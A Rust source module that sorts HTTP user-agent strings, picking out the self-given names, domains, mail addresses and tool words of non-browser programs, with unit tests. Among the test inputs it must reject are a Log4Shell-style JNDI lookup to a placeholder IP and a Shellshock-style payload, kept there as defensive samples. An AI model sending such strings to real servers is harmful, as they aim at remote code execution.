//! Tells a program by what it does not say: it names no browser, and no system that browsers run on.

use std::sync::LazyLock;

use aho_corasick::AhoCorasick;

use super::people::{any_of, is_browsers_name, is_of_people, names_a_system};

/// What programs do that fetch pages for nobody.
static WORK: LazyLock<AhoCorasick> = LazyLock::new(|| {
    const WORDS: [&str; 18] = [
        "check", "valid", "monitor", "search", "fetch", "link", "url", "seo", "scan", "harvest",
        "collect", "extract", "index", "survey", "probe", "analy", "grab", "feed",
    ];
    any_of(&WORDS)
});

/// The word by which a user agent gives itself away that names no browser, no system and nothing else that
/// people use: a mail address, a domain, what such programs do, or else what it calls itself. `None` for all
/// others, and for what is no name: an attack, a number, a few letters.
pub(super) fn program_word(user_agent: &str) -> Option<&str> {
    let (is_mozilla, user_agent) = without_mozilla(user_agent);
    if is_of_people(user_agent) || is_mozilla && names_a_system(user_agent) {
        return None;
    }
    let apart = |c: char| c.is_whitespace() || matches!(c, '(' | ')' | ';' | ',' | '"' | '<' | '>');
    let word = |text: &str| is_domain(text) || is_mail(text) || WORK.is_match(text);
    let words = || user_agent.split(apart);
    words().find(|text| word(text)).or_else(|| words().next().filter(|_| is_name(user_agent)))
}

/// How the names of tools end that fetch pages by themselves, whatever they run on.
const TOOLS: [&str; 11] = [
    "check",
    "checker",
    "tester",
    "extractor",
    "monitor",
    "validator",
    "resolver",
    "downloader",
    "downloadmanager",
    "fetcher",
    "httpclient",
];

/// The word by which a user agent names a tool, though it also names a system: `URLTester/1 CFNetwork/974.1 …`.
/// `None` for all that begins like a browser.
pub(super) fn tool_word(user_agent: &str) -> Option<&str> {
    if is_like_a_browser(user_agent) {
        return None;
    }
    let product = user_agent.split('(').next()?.split(" CFNetwork").next()?;
    let apart = |c: char| !c.is_ascii_alphanumeric();
    let mut words = product.split("%20").flat_map(|part| part.split(apart));
    words.find(|word| {
        let word = word.to_ascii_lowercase();
        TOOLS.iter().any(|ending| word.ends_with(ending))
    })
}

/// How the comment begins by which a browser on a desk names its system.
pub(super) const DESKS: [&str; 3] = ["X11", "Macintosh", "Windows NT"];

/// The name in front of all that a browser on a desk says of itself: `PagePreview Mozilla/5.0 (X11; Linux x86_64) …`.
/// Phones put their own names there.
pub(super) fn name_before_browser(user_agent: &str) -> Option<&str> {
    if user_agent.starts_with("Mozilla") {
        return None; // A name with that word in it is a browser's.
    }
    let (name, browser) = user_agent.split_once(" Mozilla/5.0 (")?;
    let on_desk = DESKS.iter().any(|desk| browser.starts_with(desk));
    let word = name.split([' ', '(']).next()?;
    let letters = name.chars().filter(char::is_ascii_alphabetic).collect::<String>();
    let is_header = letters.eq_ignore_ascii_case("useragent");
    (on_desk && !is_header && is_name(name) && !is_of_people(name) && !names_a_system(name))
        .then_some(word)
}

/// The rest of what begins like nearly all browsers, behind `Mozilla/5.0 (compatible; `; and whether it did.
fn without_mozilla(user_agent: &str) -> (bool, &str) {
    let Some(rest) = user_agent.strip_prefix("Mozilla/") else { return (false, user_agent) };
    let rest = rest.trim_start_matches(|c: char| !c.is_ascii_alphabetic());
    let named = ["compatible", "Compatible"].iter().find_map(|word| rest.strip_prefix(word));
    (true, named.map_or(rest, |name| name.trim_start_matches(|c: char| !c.is_ascii_alphanumeric())))
}

/// Whether a text is what a program may call itself: letters above all, and nothing that attacks are made of.
fn is_name(text: &str) -> bool {
    const LETTERS_MIN: usize = 3;
    const MARKS: &str = " .,:;-_/+&!'()[]#@%*~=";
    let is_of_names = |c: char| c.is_ascii_alphanumeric() || MARKS.contains(c);
    let letters = text.chars().take_while(|c| *c != '/').filter(char::is_ascii_alphabetic).count();
    // Whoever sends a header's name in the header has copied it, as people do too.
    let is_header = text.split_once(": ").is_some();
    text.starts_with(|c: char| c.is_ascii_alphanumeric())
        && letters >= LETTERS_MIN
        && !is_header
        && text.chars().all(is_of_names)
}

/// What a program calls itself, given the word by which it gave itself away: that word, without its version, or
/// where that is an address, the product at the front or before the address. `None` where it has no name.
pub(super) fn own_name<'t>(user_agent: &'t str, word: &'t str) -> Option<&'t str> {
    let is_address = |text: &str| {
        text.contains("://") || text.contains('@') || is_domain(text) || written_out(text).is_some()
    };
    let product = |text: &'t str| {
        let name = text.split('/').next()?.trim_matches(|c: char| !c.is_ascii_alphanumeric());
        let is_browsers = is_browsers_name(name) || name == "compatible";
        let is_name = name.len() > 1 && name.contains(|c: char| c.is_ascii_alphabetic());
        (is_name && !is_browsers).then_some(name)
    };
    if !is_address(word) {
        return product(word).map(|name| phrase(user_agent, name));
    }
    let apart = |c: char| c.is_whitespace() || matches!(c, '(' | ')' | ';' | ',' | '"' | '[' | ']');
    let before = user_agent.find(word).map_or(user_agent, |at| &user_agent[..at]);
    let (is_mozilla, _) = without_mozilla(user_agent);
    let mut products = before.split(apart).filter(|text| !text.is_empty() && !is_address(text));
    if is_mozilla { product(products.next_back()?) } else { product(products.next()?) }
}

/// What a user agent begins with and a name ends, where that is a name of a few words: `Thing File Downloader/1.0`.
fn phrase<'t>(user_agent: &'t str, name: &'t str) -> &'t str {
    const WORDS_MAX: usize = 4;
    let begin = user_agent.split(['/', '(', ';', ',']).next().unwrap_or(user_agent).trim_end();
    let is_word = |word: &str| word.starts_with(|c: char| c.is_ascii_uppercase()) && is_name(word);
    let is_one = begin.ends_with(name) && begin.split(' ').all(is_word);
    if is_one && begin.split(' ').count() <= WORDS_MAX { begin } else { name }
}

/// Whether a user agent begins like those of nearly all browsers.
pub(super) fn is_like_a_browser(user_agent: &str) -> bool {
    user_agent.starts_with("Mozilla/") || user_agent.starts_with("Opera/")
}

/// What a mail address has where it is written so that no program reads it.
pub(super) const WRITTEN_OUT: [&str; 6] =
    ["(at)", "[at]", "at gmail", "dot com", "dot net", "dot org"];

/// What there is of those in a text: `me(at)example.com`, `me at example dot com`.
pub(super) fn written_out(text: &str) -> Option<&'static str> {
    WRITTEN_OUT.into_iter().find(|part| text.contains(part))
}

/// `me@example.com`
pub(super) fn is_mail(word: &str) -> bool {
    word.split_once('@').is_some_and(|(name, domain)| !name.is_empty() && is_domain(domain))
}

/// Whether it is a common top-level domain.
fn is_top_level(label: &str) -> bool {
    const ENDS: [&str; 26] = [
        "com", "net", "org", "edu", "gov", "info", "io", "app", "de", "uk", "fr", "it", "nl", "br",
        "cn", "jp", "kr", "ru", "pl", "es", "se", "ch", "at", "au", "ca", "eu",
    ];
    ENDS.contains(&label)
}

/// `example.com`, `www.example.com/bot`: of versions and files' names the last part is no letters, or stands
/// behind a digit, and an app's name begins as a domain ends: `com.example.app`, `net.example.app`.
pub(super) fn is_domain(word: &str) -> bool {
    let name = word.split(['/', ':']).next().unwrap_or(word);
    let Some((before, last)) = name.rsplit_once('.') else { return false };
    let letters = |text: &str| text.chars().all(|c| c.is_ascii_alphabetic());
    (2..=12).contains(&last.len())
        && letters(last)
        && (is_top_level(last) || !name.split('.').next().is_some_and(is_top_level))
        && before.len() > 1
        && before.contains(|c: char| c.is_ascii_alphabetic())
        && before.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '.' | '_'))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn tools_whatever_they_run_on() {
        for (user_agent, word) in [
            ("URLTester/1 CFNetwork/974.1 Darwin/18.0.0 (x86_64)", Some("URLTester")),
            ("Site%20Checker%20Lite/26 CFNetwork/720.3.13", Some("Checker")),
            (
                "AndroidDownloadManager/6.0.1 (Linux; U; Android 6.0.1)",
                Some("AndroidDownloadManager"),
            ),
            ("CheckMyWay/3 CFNetwork/974.1 Darwin/18.0.0", None),
            ("Thing/1 (com.example.checker) CFNetwork/974.1", None),
            ("Mozilla/5.0 (X11; Linux) Gecko/20100101 Firefox/131.0 checker", None),
        ] {
            assert_eq!(tool_word(user_agent), word, "{user_agent}");
        }
    }

    #[test]
    fn names_in_front_of_a_browser() {
        for (user_agent, word) in [
            ("page-preview Mozilla/5.0 (X11; Linux x86_64) Firefox/131.0", Some("page-preview")),
            ("Thing 2 (x) Mozilla/5.0 (Windows NT 10.0) Chrome/131.0", Some("Thing")),
            ("LG-D855 Mozilla/5.0 (Linux; Android 6.0; LG-D855) Chrome/38.0", None),
            ("User-Agent: Mozilla/5.0 (X11; Linux x86_64) Firefox/131.0", None),
            ("user_agent = Mozilla/5.0 (X11; Linux x86_64) Firefox/131.0", None),
            ("Microsoft Edge Mozilla/5.0 (Windows NT 10.0) Edg/131.0", None),
            ("Mozilla/5.0 (X11; Linux) Firefox/131.0 Mozilla/5.0 (X11; Linux)", None),
            ("Firefox Mozilla/5.0 (X11; Linux x86_64)", None),
            (" Mozilla/5.0 (X11; Linux x86_64) Firefox/131.0", None),
        ] {
            assert_eq!(name_before_browser(user_agent), word, "{user_agent}");
        }
    }

    #[test]
    fn programs_without_a_bots_word() {
        for (user_agent, word) in [
            ("thing.example.com", Some("thing.example.com")),
            ("My Thing (me@thing.example)", Some("me@thing.example")),
            ("Link Valet Online 1.1", Some("Link")),
            ("SiteMonitor/2 linux", Some("SiteMonitor/2")),
            ("thing/1.0", Some("thing/1.0")),
            ("Some thing 1.0.beta", Some("Some")),
            ("ab", None),
            ("ab/1.0", None),
            ("${jndi:ldap://192.0.2.1/a}", None),
            ("() { :;}; echo x", None),
            ("Accept-Encoding: gzip, deflate", None),
            ("192", None),
            ("Some Browser 2", None),
            ("Mozilla/5.0 (Some check)", Some("check")),
            ("Mozilla/3.0 (Compatible;Thing/1.8)", Some("Thing/1.8")),
            ("Mozilla/5.0", None),
            ("Mozilla/4.7 [en] (WinNT; I)", None),
            ("Mozilla/3.04 (X11; I; SunOS 5.5.1 sun4u)", None),
            ("Mozilla/3.0 (DreamPassport/3.0)", None),
            ("Mozilla/5.0 (search.example)", Some("search.example")),
            ("Weather/1.0 (example.com) CFNetwork/1410.0.3 Darwin/22.6.0", None),
            ("Search/7.1 (Android 14; Pixel 8)", None),
            ("VLC/3.0.18 LibVLC/3.0.18", None),
            ("ShowLinks/1.0 libwww/5.4.0", Some("ShowLinks/1.0")),
        ] {
            assert_eq!(program_word(user_agent), word, "{user_agent}");
        }
    }
}
